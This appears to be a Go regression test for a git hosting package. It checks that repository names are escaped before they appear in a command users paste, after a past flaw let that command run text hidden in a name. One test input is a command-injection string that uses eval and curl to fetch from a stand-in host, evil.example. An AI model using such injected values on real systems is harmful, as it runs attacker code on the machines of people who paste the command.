package gitserve

import (
	"net/url"
	"testing"

	"github.com/stretchr/testify/require"
)

// A command on the page of a repository ran what somebody had named it, once pasted.
func TestPastedCommandsAreHarmless(t *testing.T) {
	require.Equal(t, "/npub1x/a-b_c.d~e.git", pasted("/npub1x/a-b_c.d~e.git"))
	for _, name := range []string{"x;eval$IFS$(curl$IFS'evil.example');", "a&b|c`d`\\\"<>(){}*?!#", "ü %41"} {
		u := url.URL{Path: "/" + name}
		got := pasted(u.EscapedPath())
		require.Regexp(t, "^[a-zA-Z0-9/._~%-]*$", got)
		back, err := url.PathUnescape(got)
		require.NoError(t, err)
		require.Equal(t, "/"+name, back)
	}
}
